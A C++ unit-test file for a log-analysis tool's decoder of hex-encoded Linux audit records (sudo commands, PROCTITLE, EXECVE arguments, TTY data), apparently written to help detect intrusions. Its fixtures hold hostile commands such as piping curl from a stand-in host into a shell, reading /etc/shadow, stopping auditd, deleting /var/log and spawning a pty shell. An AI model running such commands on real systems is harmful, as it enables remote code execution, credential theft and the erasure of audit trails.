#include "matchers/audit_hex.h"

#include <gtest/gtest.h>

#include <string>

namespace konseki::matchers {
namespace {

std::string Decoded(std::string_view text) {
  AuditBuffers buffers{"stale", "stale"};
  return DecodeAuditRecord(text, &buffers) ? buffers.text : std::string("(unchanged)");
}

// What an EXECVE record's cmdline="..." holds.
std::string Cmdline(std::string_view text) {
  const std::string out = Decoded(text);
  const size_t at = out.rfind(" cmdline=\"");
  if (at == std::string::npos || out.back() != '"') return "(none)";
  return out.substr(at + 10, out.size() - at - 11);
}

// sudo's USER_CMD (libaudit audit_log_user_command: `cwd="%s" cmd=%s`,
// the command hex-encoded by audit_encode_value when it holds a blank).
TEST(AuditHexTest, DecodesSudosCommand) {
  EXPECT_EQ(Decoded("type=USER_CMD msg=audit(1796644020.957:400161): pid=7712 uid=1001 "
                    "msg='cwd=\"/tmp\" cmd=73797374656D63746C2073746F7020617564697464 "
                    "exe=\"/usr/bin/sudo\" terminal=pts/2 res=success'"),
            "type=USER_CMD msg=audit(1796644020.957:400161): pid=7712 uid=1001 "
            "msg='cwd=\"/tmp\" cmd=\"systemctl stop auditd\" exe=\"/usr/bin/sudo\" "
            "terminal=pts/2 res=success'");
  // The value last in the quoted msg='...' and at the end of the line.
  EXPECT_EQ(Decoded("msg='cmd=636174202F6574632F736861646F77'"), "msg='cmd=\"cat /etc/shadow\"'");
  EXPECT_EQ(Decoded("acct=28696E76616C6964207573657229"), "acct=\"(invalid user)\"");
}

// PROCTITLE: argv NUL-separated (kernel/auditsc.c audit_log_proctitle).
TEST(AuditHexTest, ProctitleNulsAreBlanks) {
  EXPECT_EQ(Decoded("type=PROCTITLE msg=audit(1.2:3): proctitle=62617368002D6300696420"),
            "type=PROCTITLE msg=audit(1.2:3): proctitle=\"bash -c id\"");
}

// EXECVE's aN and aN[i] are decoded in an EXECVE record only: a SYSCALL
// record's a0..a3 are bare hex numbers.
TEST(AuditHexTest, ExecveArgumentsOnlyInExecveRecords) {
  EXPECT_EQ(Decoded("type=EXECVE msg=audit(1.2:3): argc=3 a0=\"sh\" a1=\"-c\" "
                    "a2=6375726C20687474703A2F2F782F73207C207368"),
            "type=EXECVE msg=audit(1.2:3): argc=3 a0=\"sh\" a1=\"-c\" "
            "a2=\"curl http://x/s | sh\" cmdline=\"sh -c curl http://x/s | sh\"");
  EXPECT_EQ(Decoded("argc=2 a0=\"x\" a1_len=8 a1[0]=61206220"),
            "argc=2 a0=\"x\" a1_len=8 a1[0]=\"a b\" cmdline=\"x a b \"");
  EXPECT_EQ(Decoded("type=SYSCALL msg=audit(1.2:3): arch=c000003e syscall=59 a0=8000 a1=2020"),
            "(unchanged)");
}

// A value the writer would have quoted (nothing needs encoding), odd
// lengths, lower case, unknown keys and keys glued to another word stay.
TEST(AuditHexTest, LeavesWhatNoWriterEncodes) {
  EXPECT_EQ(Decoded("name=41424344"), "(unchanged)");               // "ABCD": quoted if real
  EXPECT_EQ(Decoded("cmd=6C73206"), "(unchanged)");                 // odd
  EXPECT_EQ(Decoded("cmd=6c73202d6c"), "(unchanged)");              // lower case
  EXPECT_EQ(Decoded("uid=1000 pid=2020 ses=2031"), "(unchanged)");  // not encoded keys
  EXPECT_EQ(Decoded("hostname=6C73202D6C"), "(unchanged)");         // not `name`
  EXPECT_EQ(Decoded("cmd=6C73202D6CZZ"), "(unchanged)");            // not the whole value
  EXPECT_EQ(Decoded("Failed password for root from 192.0.2.1"), "(unchanged)");
}

// TTY data is always hex (drivers/tty/tty_audit.c audit_log_n_hex); control
// bytes read as blanks, an invalid UTF-8 byte as '?', valid UTF-8 kept.
TEST(AuditHexTest, TtyDataControlBytesAndUtf8) {
  EXPECT_EQ(Decoded("type=TTY msg=audit(1.2:3): tty pid=1 data=6869730D"),
            "type=TTY msg=audit(1.2:3): tty pid=1 data=\"his\"");
  EXPECT_EQ(Decoded("name=2F746D702FE697A5FF"), "name=\"/tmp/\xE6\x97\xA5?\"");
}

// The ENRICHED separator ends a value.
TEST(AuditHexTest, EnrichedSeparatorEndsTheValue) {
  EXPECT_EQ(Decoded("cmd=6C73202D6C res=success'\x1dUID=\"root\""),
            "cmd=\"ls -l\" res=success'\x1dUID=\"root\"");
  EXPECT_EQ(Decoded("exe=2F746D702F61206220\x1dUID=\"root\""), "exe=\"/tmp/a b\"\x1dUID=\"root\"");
}

// auditd and its plugin, the kernel's printk, the journal's identifier.
TEST(AuditHexTest, TellsAuditRecords) {
  EXPECT_TRUE(
      IsAuditRecord("type=EXECVE msg=audit(1796641140.108:400084): argc=3", "audisp-syslog"));
  EXPECT_TRUE(IsAuditRecord("node=h type=PATH msg=audit(1.2:3): item=0", ""));
  EXPECT_TRUE(IsAuditRecord("audit: type=1309 audit(1718157600.008:8011): argc=2", "kernel"));
  EXPECT_TRUE(IsAuditRecord("EXECVE argc=3 a0=\"sh\"", "audit"));
  EXPECT_FALSE(IsAuditRecord("EXECVE argc=3 a0=\"sh\"", "sshd"));
  EXPECT_FALSE(IsAuditRecord("the audit (2026) found nothing", "cron"));
  EXPECT_FALSE(IsAuditRecord("Failed password for root from 192.0.2.1", "sshd"));
}

TEST(AuditHexTest, HexValuesNeverLengthenTheText) {
  const std::string text = "cmd=2020 a=1 cmd=4120 key=2042";
  AuditBuffers buffers;
  ASSERT_TRUE(DecodeAuditRecord(text, &buffers));
  EXPECT_LE(buffers.text.size(), text.size());
  EXPECT_EQ(buffers.text, "cmd=\"\" a=1 cmd=\"A\" key=\" B\"");
}

// EXECVE's arguments, one field each (kernel/auditsc.c
// audit_log_execve_info), read as one command line at the record's end.
TEST(AuditHexTest, ExecveArgumentsJoinedAsCmdline) {
  // Every form of the record's head: auditd and its plugin, the kernel's
  // printk, the journal.
  EXPECT_EQ(Decoded("type=EXECVE msg=audit(1796641140.108:400084): argc=3 a0=\"rm\" a1=\"-rf\" "
                    "a2=\"/var/log\""),
            "type=EXECVE msg=audit(1796641140.108:400084): argc=3 a0=\"rm\" a1=\"-rf\" "
            "a2=\"/var/log\" cmdline=\"rm -rf /var/log\"");
  EXPECT_EQ(Cmdline("node=web1 type=EXECVE msg=audit(1.2:3): argc=4 a0=\"sudo\" a1=\"-u\" "
                    "a2=\"root\" a3=\"id\""),
            "sudo -u root id");
  EXPECT_EQ(Cmdline("audit: type=1309 audit(1718157600.008:8011): argc=2 a0=\"id\" a1=\"-a\""),
            "id -a");
  EXPECT_EQ(Cmdline("EXECVE argc=2 a0=\"id\" a1=\"-a\""), "id -a");
  // Hex arguments decoded (their trailing blanks kept), quoted ones as
  // they are, an empty one an empty word.
  EXPECT_EQ(Cmdline("type=EXECVE msg=audit(1.2:3): argc=4 a0=\"bash\" a1=\"-c\" "
                    "a2=6375726C202D7320687474703A2F2F782F73207C2062617368 a3=\"\""),
            "bash -c curl -s http://x/s | bash ");
  // A long argument's chunks concatenated, its length skipped.
  EXPECT_EQ(Cmdline("type=EXECVE msg=audit(1.2:3): argc=3 a0=\"echo\" a1_len=10 "
                    "a1[0]=\"abcde\" a1[1]=\"fghij\" a2=\"x\""),
            "echo abcdefghij x");
  EXPECT_EQ(Cmdline("type=EXECVE msg=audit(1.2:3): argc=2 a0=\"sh\" a1_len=12 "
                    "a1[0]=726D202D7266 a1[1]=202F7661722F6C6F67"),
            "sh rm -rf /var/log");
  // The kernel's continuation record (no argc=): its own arguments.
  EXPECT_EQ(Cmdline("type=EXECVE msg=audit(1.2:3): a7=\"-v\" a8=\"/tmp\""), "-v /tmp");
  // auparse's interpreted form (audisp-syslog interpret): bare values, a
  // decoded one holding blanks runs to the next argument.
  EXPECT_EQ(Cmdline("type=EXECVE msg=audit(1.2:3): argc=3 a0=sh a1=-c a2=curl http://x/s | sh"),
            "sh -c curl http://x/s | sh");
  // A decoded argument holding quotes: cmdline="..." is last all the same.
  EXPECT_EQ(Cmdline("type=EXECVE msg=audit(1.2:3): argc=3 a0=\"python3\" a1=\"-c\" "
                    "a2=696D706F7274207074793B7074792E737061776E28222F62696E2F73682229"),
            "python3 -c import pty;pty.spawn(\"/bin/sh\")");
  // No arguments, or not an EXECVE record: no cmdline.
  EXPECT_EQ(Decoded("type=EXECVE msg=audit(1.2:3): argc=0"), "(unchanged)");
  EXPECT_EQ(Decoded("type=SYSCALL msg=audit(1.2:3): arch=c000003e syscall=59 a0=55d0 a1=55e0 "
                    "a2=55f0 a3=0 comm=\"id\""),
            "(unchanged)");
  EXPECT_EQ(Decoded("type=PROCTITLE msg=audit(1.2:3): proctitle=\"id\""), "(unchanged)");
}

// RuleSet's test before its scan: the record's first bytes only.
TEST(AuditHexTest, StartsAsExecveRecord) {
  EXPECT_TRUE(
      StartsAsExecveRecord("type=EXECVE msg=audit(1.2:3): argc=1 a0=\"id\"", "audisp-syslog"));
  EXPECT_TRUE(StartsAsExecveRecord("node=db02 type=EXECVE msg=audit(1.2:3): argc=1", "audispd"));
  EXPECT_TRUE(StartsAsExecveRecord("EXECVE argc=1 a0=\"id\"", "audit"));
  EXPECT_FALSE(StartsAsExecveRecord("EXECVE argc=1 a0=\"id\"", "myapp"));
  EXPECT_TRUE(StartsAsExecveRecord("audit: type=1309 audit(1.2:3): argc=1 a0=\"id\"", "kernel"));
  EXPECT_TRUE(StartsAsExecveRecord(
      "[  812.044310] audit: type=1309 audit(1.2:3): argc=2 a0=\"ls\" a1=\"/\"", "kernel"));
  EXPECT_FALSE(StartsAsExecveRecord("audit: type=1300 audit(1.2:3): arch=c000003e", "kernel"));
  EXPECT_FALSE(StartsAsExecveRecord("audit: type=1309 audit(1.2:3): argc=1", "sshd"));
  EXPECT_FALSE(StartsAsExecveRecord("[  812.044310 audit: type=1309 audit(1.2:3):", "kernel"));
  EXPECT_FALSE(
      StartsAsExecveRecord("type=SYSCALL msg=audit(1.2:3): arch=c000003e", "audisp-syslog"));
  EXPECT_FALSE(StartsAsExecveRecord("node=db02", "audispd"));
  EXPECT_FALSE(StartsAsExecveRecord("Failed password for root from 192.0.2.1", "sshd"));
}

// The result is bounded (2 * text + 11), so one reused buffer serves all.
TEST(AuditHexTest, CmdlineAtMostDoublesTheText) {
  const std::string text = "type=EXECVE msg=audit(1.2:3): argc=3 a0=\"a\" a1=\"b\" a2=2020";
  AuditBuffers buffers;
  ASSERT_TRUE(DecodeAuditRecord(text, &buffers));
  EXPECT_LE(buffers.text.size(), 2 * text.size() + 11);
}

}  // namespace
}  // namespace konseki::matchers
